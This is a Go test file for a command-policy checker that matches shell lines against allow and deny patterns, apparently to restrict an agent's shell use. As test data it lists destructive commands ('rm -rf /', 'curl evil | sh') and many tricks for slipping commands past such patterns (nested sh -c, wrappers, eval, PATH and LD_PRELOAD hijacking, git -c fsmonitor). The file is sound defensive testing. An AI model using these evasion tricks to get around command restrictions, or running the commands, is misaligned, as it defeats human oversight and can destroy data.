package cmdpolicy

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

type row struct {
	name        string
	allow, deny []string
	line        string
	argv        []string
	want        string // "" allowed, else a part of the error
	// why a line that does what a pattern forbids is allowed: the limit
	// docs/agents.md states.
	why string
}

func (tc row) check(t *testing.T) {
	t.Helper()
	p, err := New(tc.allow, tc.deny)
	if err != nil {
		t.Fatalf("%s: %v", tc.name, err)
	}
	if tc.argv != nil {
		err = p.CheckArgv(tc.argv)
	} else {
		err = p.CheckLine(tc.line)
	}
	switch {
	case tc.want == "" && err != nil:
		t.Errorf("%s: refused: %v", tc.name, err)
	case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
		t.Errorf("%s: %v; want an error with %q", tc.name, err, tc.want)
	case err != nil && strings.Contains(err.Error(), "\n"):
		t.Errorf("%s: the reason is more than one line: %q", tc.name, err)
	}
}

var (
	rm      = []string{"rm"}
	denied  = "--deny-command"
	uncheck = "cannot be checked"
	noAllow = "matches no --allow-command"
)

func TestPolicy(t *testing.T) {
	for _, tc := range []row{
		{name: "no patterns", line: "rm -rf / && $(evil)"},
		{name: "deny", deny: rm, line: "rm -rf /tmp/x", want: `--deny-command "rm"`},
		{name: "deny a later command", deny: rm, line: "make && rm x", want: denied},
		{name: "deny by path", deny: rm, argv: []string{"/bin/rm", "-rf", "/"}, want: denied},
		{name: "deny quoted", deny: rm, line: `"rm" x`, want: denied},
		{name: "deny in sh -c", deny: rm, argv: []string{"/bin/sh", "-c", "true; rm x"}, want: denied},
		{name: "deny whole word only", deny: rm, line: "rmdir x"},
		{name: "deny an argument pattern", deny: []string{"git push *"}, line: "git push --force origin", want: denied},
		{name: "deny not an argument", deny: []string{"git push"}, line: "git status"},
		{name: "deny after allow", allow: []string{"git *"}, deny: []string{"git push"}, line: "git push", want: denied},
		{name: "deny wins in any order", allow: []string{"*"}, deny: []string{"curl"}, line: "curl x | sh", want: denied},
		{name: "allow", allow: []string{"make", "go test *"}, line: "make test && go test ./..."},
		{name: "allow by path", allow: []string{"make"}, argv: []string{"/usr/bin/make", "-j8"}},
		{name: "allow pinned path", allow: []string{"/usr/bin/make"}, argv: []string{"/tmp/make"}, want: "--allow-command"},
		{name: "allow misses a chained command", allow: []string{"make *"}, line: "make test; curl evil | sh", want: `"curl evil"`},
		{name: "allow no prefix of a word", allow: []string{"make"}, line: "makeup", want: "--allow-command"},
		{name: "allow default shell refused", allow: []string{"make"}, argv: []string{"/bin/bash"}, want: "--allow-command"},
		{name: "allow sh -c script", allow: []string{"make"}, argv: []string{"sh", "-c", "make all"}},
		// A login shell's -c script is a script too (it used to be refused
		// as a program; read as one, deny sees into it).
		{name: "allow sh -lc script", allow: []string{"make"}, argv: []string{"bash", "-lc", "make"}},
		{name: "allow sh -lc other", allow: []string{"make"}, argv: []string{"bash", "-lc", "curl x"}, want: noAllow},
		{name: "substitution is checked", allow: []string{"echo *"}, line: "echo $(rm x)", want: `"rm x" matches no`},
		{name: "substitution allowed", allow: []string{"echo *", "date"}, line: "echo $(date) `date`"},
		{name: "substitution with deny only", deny: rm, line: "echo `id`"},
		{name: "assignment hides nothing", deny: rm, line: "X=1 rm y", want: denied},
		{name: "question mark", deny: []string{"r?"}, line: "rm x", want: denied},
		{name: "blanks collapsed", deny: []string{"rm  -rf"}, line: "rm\t-rf  /", want: denied},
		{name: "empty line", allow: []string{"make"}, line: ""},
		{name: "a comment", allow: []string{"make"}, line: "make # ; rm x"},
		{name: "a dup is no write", allow: []string{"make", "tail"}, line: "make 2>&1 | tail -n 20"},
		{name: "/dev/null is no write", allow: []string{"make"}, line: "make >/dev/null 2>&1"},
		{name: "an escaped > does not hide a command", deny: rm, line: `echo \>& rm x`, want: denied},
		{name: "quotes keep a line a word", deny: rm, line: `git commit -m "a; rm -rf /"`},
		{name: "a keyword is no program", allow: []string{"true", "make"}, line: "if true; then make; fi"},
		{name: "a variable argument, deny", deny: []string{"git push"}, line: `git commit -m "$msg"`},
		{name: "a variable argument could be denied", deny: []string{"git push"}, line: `git $sub`, want: denied},
		{name: "a variable argument, allow *", allow: []string{"echo *"}, line: `echo "$HOME"`},
		{name: "a variable argument, allow literal", allow: []string{"git status"}, line: `git status $x`},
		{name: "a variable argument, allow no *", allow: []string{"git status -s"}, line: `git status $x`, want: noAllow},
		{name: "a glob argument", allow: []string{"ls"}, line: "ls *.go"},
		{name: "a glob that could be denied", deny: []string{"git push"}, line: "git pu*", want: denied},
		{name: "unparseable", deny: rm, line: "echo 'unterminated", want: "cannot be read as a bash command line"},
		{name: "unparseable zsh", allow: []string{"echo *"}, line: "for f (a b) echo $f", want: "cannot be read"},
		{name: "a redirection pattern", allow: []string{"make > build.log"}, line: "make >build.log"},
		{name: "a redirection pattern with *", allow: []string{"make * 2> *"}, line: "make all 2>err.log"},
		{name: "a pattern's * stops at a redirection", allow: []string{"make *"}, line: "make all > f", want: "writes a file"},
		{name: "deny sees a redirection", deny: []string{"* > /etc/*"}, line: "echo x > /etc/passwd", want: denied},
		{name: "exec dups", allow: []string{"make"}, line: "exec 2>&1; make"},
		{name: "exec writing", allow: []string{"make"}, line: "exec >log", want: noAllow},
		{name: "command -v looks up", deny: rm, line: "command -v rm"},
		{name: "function body", deny: rm, line: "f() { rm x; }", want: denied},
		// A function is a name for its body, which was checked: a call is
		// matched by its name like a program.
		{name: "function named like an allowed program", allow: []string{"ls", "echo *"}, line: "ls() { echo hi; }; ls"},
		{name: "function named like a denied program", deny: rm, line: "rm() { echo hi; }; rm x", want: denied},
		{name: "deep scripts", deny: rm, line: strings.Repeat("sh -c '", 1) + strings.Repeat(`sh -c "`, 1) + `rm x"'`, want: denied},
	} {
		tc.check(t)
	}
}

// TestTricks: the ways a command hides from the patterns, each refused,
// or allowed for the reason docs/agents.md gives ("What the patterns
// are").
func TestTricks(t *testing.T) {
	allowLs := []string{"ls"}
	for _, tc := range []row{
		{name: "sh -c string", deny: rm, line: "sh -c 'rm -f F'", want: denied},
		{name: "bash -c string", deny: rm, line: `bash -c "rm -f F"`, want: denied},
		{name: "zsh -c string", deny: rm, line: `zsh -c "rm -f F"`, want: denied},
		{name: "bash -lc string", deny: rm, line: `bash -lc "rm -f F"`, want: denied},
		{name: "sh -c in sh -c", deny: rm, line: `sh -c "sh -c 'rm -f F'"`, want: denied},
		{name: "array form sh -c", deny: rm, argv: []string{"sh", "-c", "rm F"}, want: denied},
		{name: "array form is not split", deny: rm, argv: []string{"echo", "; rm F"}},
		{name: "env", deny: rm, line: "env rm F", want: denied},
		{name: "env with options and VAR=val", deny: rm, line: "env -i -u HOME A=1 rm F", want: denied},
		{name: "env -S", deny: rm, line: "env -S 'rm F'", want: uncheck},
		{name: "command", deny: rm, line: "command rm F", want: denied},
		{name: "builtin command", deny: rm, line: "builtin command rm F", want: denied},
		{name: "exec", deny: rm, line: "exec rm F", want: denied},
		{name: "nice", deny: rm, line: "nice -n 5 rm F", want: denied},
		{name: "nohup", deny: rm, line: "nohup rm F", want: denied},
		{name: "time", deny: rm, line: "time rm F", want: denied},
		{name: "timeout", deny: rm, line: "timeout -s KILL 5s rm F", want: denied},
		{name: "sudo", deny: rm, line: "sudo -u root -E rm F", want: denied},
		{name: "doas", deny: rm, line: "doas -u root rm F", want: denied},
		{name: "stdbuf", deny: rm, line: "stdbuf -oL rm F", want: denied},
		{name: "setsid", deny: rm, line: "setsid -f rm F", want: denied},
		{name: "ionice", deny: rm, line: "ionice -c 3 rm F", want: denied},
		{name: "chrt", deny: rm, line: "chrt -b 0 rm F", want: denied},
		{name: "taskset", deny: rm, line: "taskset -c 0 rm F", want: denied},
		{name: "watch", deny: rm, line: "watch -n 1 rm F", want: denied},
		{name: "watch -x", deny: rm, line: "watch -x rm F", want: denied},
		{name: "flock", deny: rm, line: "flock /tmp/l rm F", want: denied},
		{name: "flock -c", deny: rm, line: "flock /tmp/l -c 'rm F'", want: denied},
		{name: "busybox", deny: rm, line: "busybox rm F", want: denied},
		{name: "su -c", deny: rm, line: "su -c 'rm F' root", want: denied},
		{name: "coproc", deny: rm, line: "coproc rm F", want: denied},
		{name: "coproc named", deny: rm, line: "coproc C { rm F; }", want: denied},
		{name: "eval", deny: rm, line: "eval rm F", want: uncheck},
		{name: "eval of a variable", deny: rm, line: `c=rm; eval "$c F"`, want: uncheck},
		{name: "xargs", deny: rm, line: "echo F | xargs rm", want: denied},
		{name: "xargs -I sh -c", deny: rm, line: "echo F | xargs -I{} sh -c 'rm {}'", want: uncheck},
		{name: "xargs feeding sh -c", deny: rm, line: "echo 'rm F' | xargs sh -c", want: uncheck},
		{name: "xargs without a command runs echo", allow: []string{"xargs"}, line: "xargs", want: `"echo …"`},
		{name: "$a", deny: rm, line: "a=rm; $a F", want: uncheck},
		{name: "${a:-rm}", deny: rm, line: "${a:-rm} F", want: uncheck},
		{name: "$(echo rm)", deny: rm, line: "$(echo rm) F", want: uncheck},
		{name: "backquoted name", deny: rm, line: "`echo rm` F", want: uncheck},
		{name: "backslash", deny: rm, line: `\rm F`, want: denied},
		{name: "empty quotes", deny: rm, line: `r''m F`, want: denied},
		{name: "ANSI-C quotes", deny: rm, line: `$'\x72\u006d' F`, want: denied},
		{name: "brace expansion", deny: rm, line: "{rm,F}", want: denied},
		{name: "glob name", deny: rm, line: "/bin/r? F", want: uncheck},
		{name: "history", deny: rm, line: "!rm", want: uncheck},
		{name: "quick substitution", deny: rm, line: "^ls^rm", want: uncheck},
		{name: "substitution", deny: rm, line: "echo $(rm F)", want: denied},
		{name: "backquotes", deny: rm, line: "echo `rm F`", want: denied},
		{name: "process substitution", deny: rm, line: "cat <(rm F)", want: denied},
		{name: "in a default", deny: rm, line: "echo ${x:-$(rm F)}", want: denied},
		{name: "in an assignment", deny: rm, line: "x=$(rm F)", want: denied},
		{name: "in a here-document", deny: rm, line: "cat <<E\n$(rm F)\nE", want: denied},
		{name: "quoted here-document is text", deny: rm, line: "cat <<'E'\n$(rm F)\nE"},
		{name: "subshell", deny: rm, line: "(cd / && rm F)", want: denied},
		{name: "background", deny: rm, line: "ls & rm F", want: denied},
		{name: "if", deny: rm, line: "if true; then :; else rm F; fi", want: denied},
		{name: "while", deny: rm, line: "while rm F; do :; done", want: denied},
		{name: "for", deny: rm, line: "for f in F; do rm $f; done", want: denied},
		{name: "case", deny: rm, line: "case x in x) rm F;; esac", want: denied},
		{name: "function", deny: rm, line: "f() { rm F; }; f", want: denied},
		{name: "find -exec", deny: rm, line: `find . -exec rm {} \;`, want: denied},
		{name: "find -execdir sh -c", deny: rm, line: `find . -execdir sh -c 'rm "$1"' _ {} +`, want: denied},
		{name: "trap", deny: rm, line: "trap 'rm F' EXIT", want: denied},
		{name: "piped into sh", deny: rm, line: "echo 'rm F' | sh", want: uncheck},
		{name: "here-string into bash", deny: rm, line: "bash <<< 'rm F'", want: uncheck},
		{name: "fish -c", deny: rm, line: "fish -c 'rm F'", want: uncheck},
		{name: "alias on one line, used on the next", deny: rm, line: "alias x=rm\nx F", want: uncheck},
		{name: "BASH_ALIASES", deny: rm, line: "BASH_ALIASES[x]=rm", want: uncheck},
		{name: "hash -p", deny: rm, line: "hash -p /bin/rm ls; ls F", want: uncheck},
		{name: "source", deny: rm, line: "source ./x.sh", want: uncheck},
		{name: ".", deny: rm, line: ". ./x.sh", want: uncheck},
		{name: "find -delete", deny: rm, line: "find . -name F -delete",
			why: "a deny pattern matches commands, not what a program does: find deletes by itself"},
		{name: "unlink", deny: rm, line: "unlink F", why: "another program that deletes is another command"},
		{name: "python -c", deny: rm, line: `python3 -c 'import os; os.remove("F")'`,
			why: "an interpreter's script is out of sight"},
		{name: "a script", deny: rm, line: "bash ./clean.sh", why: "a script's commands are out of sight"},
		{name: "git -C . push", deny: []string{"git push"}, line: "git -C . push", want: denied},
		{name: "git --git-dir push", deny: []string{"git push"}, line: "git --git-dir=.git --no-pager push -f", want: denied},
		{name: "git -c push", deny: []string{"git push"}, line: "git -c user.name=x push", want: denied},
		{name: "git -c under allow", allow: []string{"git status"}, line: "git -c core.fsmonitor='rm -rf ~' status", want: noAllow},
		{name: "git -C under allow", allow: []string{"git status"}, line: "git -C sub status"},
		{name: "echo >> ~/.bashrc under echo *", allow: []string{"echo *"}, line: "echo evil >> ~/.bashrc", want: "writes a file"},
		{name: "a block's redirection", allow: []string{"echo *"}, line: "{ echo evil; } >> ~/.bashrc", want: "writes a file"},
		{name: "sh -c's redirection", allow: []string{"echo *"}, line: "sh -c 'echo evil' > ~/.bashrc", want: "writes a file"},
		{name: "&>", allow: []string{"echo *"}, line: "echo x &> f", want: "writes a file"},
		{name: ">|", allow: []string{"echo *"}, line: "echo x >| f", want: "writes a file"},
		{name: ">& file", allow: []string{"echo *"}, line: "echo x >& f", want: "writes a file"},
		{name: "a redirection alone", allow: []string{"echo *"}, line: "> f", want: noAllow},
		{name: "LD_PRELOAD under allow ls", allow: allowLs, line: "LD_PRELOAD=/x.so ls", want: "sets LD_PRELOAD"},
		{name: "BASH_ENV under allow ls", allow: allowLs, line: "BASH_ENV=/x ls", want: "sets BASH_ENV"},
		{name: "PATH under allow ls", allow: allowLs, line: "PATH=/evil:$PATH ls", want: "sets PATH"},
		{name: "PATH alone under allow ls", allow: allowLs, line: "PATH=/evil; ls", want: "sets PATH"},
		{name: "export PATH", allow: []string{"export *", "ls"}, line: "export PATH=/evil", want: "sets PATH"},
		{name: "env PATH", allow: []string{"env *", "ls"}, line: "env PATH=/evil ls", want: "sets PATH"},
		{name: "read PATH", allow: []string{"read *"}, line: "read PATH", want: "sets PATH"},
		{name: "for PATH", allow: allowLs, line: "for PATH in /evil; do ls; done", want: "sets PATH"},
		{name: "PS1", allow: allowLs, line: "PS1='$(rm F)'", want: "sets PS1"},
		{name: "arithmetic on a variable", allow: []string{"echo *"}, line: "x='a[$(rm F)]'; echo $((x))", want: "arithmetic"},
		{name: "arithmetic on numbers", allow: []string{"echo *"}, line: "echo $((6*7))"},
		{name: "bash -c under allow bash", allow: []string{"bash"}, line: "bash -c 'rm -rf F'", want: `"rm -rf F"`},
		{name: "bash under allow bash", allow: []string{"bash"}, argv: []string{"/bin/bash"}},
		{name: "a wrapper must be allowed", allow: allowLs, line: "nice ls", want: `"nice ls" matches no`},
		{name: "and what it runs", allow: []string{"nice", "ls"}, line: "nice rm F", want: `"rm F" (run by "nice rm F") matches no`},
		{name: "an allowed wrapper", allow: []string{"nice", "ls"}, line: "nice -n 5 ls"},
	} {
		if tc.why != "" && tc.want != "" {
			t.Fatalf("%s: a row is refused or allowed for a reason, not both", tc.name)
		}
		tc.check(t)
	}
}

func TestNewEmptyPattern(t *testing.T) {
	for _, tc := range []struct{ allow, deny []string }{{[]string{""}, nil}, {nil, []string{"  \t"}}, {[]string{"make", ""}, nil}} {
		if _, err := New(tc.allow, tc.deny); err == nil || !strings.Contains(err.Error(), "empty") {
			t.Errorf("New(%q, %q): %v", tc.allow, tc.deny, err)
		}
	}
	var zero *Policy
	if !zero.Empty() || zero.CheckLine("$(x)") != nil || zero.CheckArgv([]string{"rm"}) != nil {
		t.Fatal("a nil policy refuses")
	}
}

func TestGlob(t *testing.T) {
	for _, tc := range []struct {
		pat, s string
		want   bool
	}{
		{"", "", true}, {"*", "", true}, {"*", "a b/c", true}, {"a*c", "abbbc", true}, {"a*c", "abcd", false},
		{"?", "é", true}, {"a?c", "ac", false}, {"*a*a*a*b", strings.Repeat("a", 200), false}, {"**", "x", true}, {"*", "*0", true}, {"a*", "a*b", true}, {"*b", "*b", true},
	} {
		if got := glob(tc.pat, tc.s); got != tc.want {
			t.Errorf("glob(%q, %q) = %v", tc.pat, tc.s, got)
		}
	}
}

// TestMatchUnknown: an unknown part may be anything for deny, and only a
// * covers it for allow; a redirection's operator is matched only by
// itself.
func TestMatchUnknown(t *testing.T) {
	u, gt := unknown, hard('>')
	for _, tc := range []struct {
		pat          string
		s            []rune
		maybe, allow bool
	}{
		{"rm", []rune{u}, true, false},
		{"rm x", []rune{'r', u, ' ', 'x'}, true, false},
		{"rm x", []rune{'l', u}, false, false},
		{"a*", []rune{'a', u}, true, true},
		{"a?", []rune{'a', u}, true, false},
		{"a", []rune{'a', u}, true, false},
		{"*", []rune{'a', ' ', gt, ' ', 'f'}, false, false},
		{"a > *", []rune{'a', ' ', gt, ' ', 'f'}, true, true},
		{"a ? f", []rune{'a', ' ', gt, ' ', 'f'}, false, false},
	} {
		if got := match([]rune(tc.pat), tc.s, true); got != tc.maybe {
			t.Errorf("deny %q %q = %v", tc.pat, tc.s, got)
		}
		if got := match([]rune(tc.pat), tc.s, false); got != tc.allow {
			t.Errorf("allow %q %q = %v", tc.pat, tc.s, got)
		}
	}
}

// FuzzDecide: any line is decided without a panic, with a one-line
// reason; a deny "*" refuses every line with a command in it (every
// command is seen, wherever it stands); a line and its sh -c array form
// are decided alike.
func FuzzDecide(f *testing.F) {
	for _, s := range []string{"make test", "a && b || c", `r"m" -rf`, "echo $(x)", "'", `"\`, "if a; then b; fi", "x\\", "#c\nd", "(a)|(b)",
		"env -i A=1 nice -n 3 xargs -I{} sh -c '{}'", "f() { g > f; }", "cat <<E\n$(x)\nE", "git -C . -c a=b push", "PATH=x ls >> f",
		"echo ${a[$i]} $((x)) `y`", "find . -exec rm {} +", "{a,b}{c,d}", "trap 'x' EXIT", "coproc c { x; }", "$'\\x41\\u00e9\\c@'"} {
		f.Add(s)
	}
	must := func(allow, deny []string) *Policy {
		p, err := New(allow, deny)
		if err != nil {
			f.Fatal(err)
		}
		return p
	}
	policies := []*Policy{must([]string{"*"}, nil), must(nil, []string{"rm"}), must([]string{"ls", "git status", "echo * > *"}, []string{"git push"})}
	denyAll := must(nil, []string{"*"})
	parser := syntax.NewParser(syntax.Variant(syntax.LangBash))
	f.Fuzz(func(t *testing.T, line string) {
		for _, p := range policies {
			err := p.CheckLine(line)
			if err != nil && strings.Contains(err.Error(), "\n") {
				t.Fatalf("a reason of more than one line: %q", err)
			}
			// -- so that a line starting with - or + is the script, not options.
			if (err == nil) != (p.CheckArgv([]string{"sh", "-c", "--", line}) == nil) {
				t.Fatalf("%q and sh -c %q are decided apart: %v", line, line, err)
			}
		}
		file, err := parser.Parse(strings.NewReader(line), "")
		if err != nil {
			return
		}
		commands := false
		syntax.Walk(file, func(n syntax.Node) bool {
			if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
				commands = true
			}
			return !commands
		})
		if commands && denyAll.CheckLine(line) == nil {
			t.Fatalf("deny * let %q through", line)
		}
	})
}
